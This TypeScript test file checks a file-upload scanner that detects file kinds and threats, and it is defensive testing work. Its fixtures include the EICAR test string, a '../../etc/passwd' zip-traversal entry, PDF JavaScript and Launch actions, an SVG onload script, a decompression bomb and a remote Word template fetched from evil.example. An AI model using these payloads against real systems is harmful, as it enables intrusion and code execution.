import { deflateSync } from 'node:zlib';
import { builtInScan } from './built-in-scan.js';
import { kindOf, kindOfName } from './file-kind.rules.js';
import { buildDocx, buildZip } from './zip.factory.js';

// In two halves, or scanners would take this very file for the test virus.
const eicar = String.raw`X5O!P%@AP[4\PZX54(P^)7CC)7}` + '$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*';
const pdf = (...parts: (string | Buffer)[]): Buffer =>
  Buffer.concat([Buffer.from('%PDF-1.7\n'), ...parts.map((part) => Buffer.from(part)), Buffer.from('\n%%EOF\n')]);
const packed = (dictionary: string, content: string | Buffer): Buffer =>
  Buffer.concat([
    Buffer.from(`1 0 obj <</Filter /FlateDecode ${dictionary}>>\nstream\n`),
    deflateSync(content),
    Buffer.from('\nendstream endobj'),
  ]);
const compound = (name: string): Buffer =>
  Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(504), Buffer.from(name, 'utf16le')]);

describe('what a file is', () => {
  it.each([
    [pdf(), 'pdf'],
    [buildDocx('I rig.'), 'docx'],
    [buildZip({ 'a.txt': 'a' }), 'zip'],
    [compound('WordDocument'), 'doc'],
    [compound('Workbook'), null],
    [Buffer.from('RIFF\u0000\u0000\u0000\u0000WEBPVP8 '), 'webp'],
    [Buffer.from([0xff, 0xd8, 0xff, 0xe0]), 'jpeg'],
    [Buffer.from('MZ\u0090'), 'program'],
    [Buffer.from('#!/bin/sh'), 'program'],
    [Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"/>'), null],
    [Buffer.alloc(0), null],
    [Buffer.from('PK\u0003\u0004'), 'zip'],
  ])('is told from its bytes %#', (bytes, kind) => expect(kindOf(bytes)).toBe(kind));

  it.each([
    ['cv.PDF', 'pdf'],
    ['a.b.docx', 'docx'],
    ['cv.pdf.exe', null],
    ['cv', null],
    ['photo.jpg ', 'jpeg'],
  ])('is promised by the name %j', (name, kind) => expect(kindOfName(name)).toBe(kind));
});

describe('a scan without a virus scanner', () => {
  it.each([
    ['a plain PDF', pdf('1 0 obj <</Type /Catalog>> endobj', packed('/Length 9', 'BT (hi /JS) Tj ET')), 'cv.pdf'],
    ['a Word document', buildDocx('I rig.', { 'word/media/image1.jpeg': Buffer.from([0xff, 0xd8, 0xff]) }), 'cv.docx'],
    ['an old Word document', compound('WordDocument'), 'cv.doc'],
    ['a PDF with a broken stream', pdf('1 0 obj <</Filter /FlateDecode>>\nstream\nnonsense\nendstream'), 'cv.pdf'],
  ])('lets %s pass', async (_what, bytes, name) => expect(await builtInScan(bytes, name)).toBeNull());

  it.each([
    ['the test virus', Buffer.from(eicar), undefined, 'test-virus'],
    ['the test virus in a PDF', pdf(eicar), 'cv.pdf', 'test-virus'],
    ['the test virus packed in a PDF', pdf(packed('/Length 9', eicar)), 'cv.pdf', 'test-virus'],
    ['the test virus in a document', buildDocx('hi', { 'word/media/a.bin': eicar }), 'cv.docx', 'test-virus'],
    ['a program', Buffer.from('MZ\u0090 program'), undefined, 'program'],
    ['a program in an archive', buildZip({ 'setup.exe': 'x' }), undefined, 'program'],
    ['a way out of an archive', buildZip({ '../../etc/passwd': 'x' }), undefined, 'program'],
    ['macros', buildDocx('hi', { 'word/vbaProject.bin': 'x' }), 'cv.docx', 'macros'],
    ['old macros', compound('WordDocument _VBA_PROJECT'), 'cv.doc', 'macros'],
    ['an embedded object', buildDocx('hi', { 'word/embeddings/oleObject1.bin': 'x' }), 'cv.docx', 'active-content'],
    [
      'a script in a PDF',
      pdf('1 0 obj <</OpenAction <</S /JavaScript /JS (app.alert())>>>>'),
      'cv.pdf',
      'active-content',
    ],
    ['a script behind an escape', pdf('1 0 obj <</S /J#61vaScript>>'), 'cv.pdf', 'active-content'],
    ['a script in a packed object', pdf(packed('/Type /ObjStm', '<</S /Launch>>')), 'cv.pdf', 'active-content'],
    ['a bomb', buildDocx('hi', { 'word/a.xml': Buffer.alloc(101 * 1024 * 1024) }), 'cv.docx', 'bomb'],
    ['a broken archive', Buffer.from('PK\u0003\u0004 and no end'), undefined, 'bomb'],
    ['a PDF that is an archive too', Buffer.concat([pdf(), buildZip({ a: 'a' })]), 'cv.pdf', 'mixed-content'],
    ['an archive called PDF', buildZip({ a: 'a' }), 'cv.pdf', 'type-mismatch'],
    ['an SVG called PNG', Buffer.from('<svg onload="alert(1)"/>'), 'a.png', 'type-mismatch'],
  ])('finds %s', async (_what, bytes, name, threat) => expect(await builtInScan(bytes, name)).toBe(threat));

  it('finds a template from elsewhere', async () => {
    const rels =
      '<Relationship Type="http://x/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/>';
    expect(await builtInScan(buildDocx('hi', { 'word/_rels/settings.xml.rels': rels }))).toBe('active-content');
  });
});
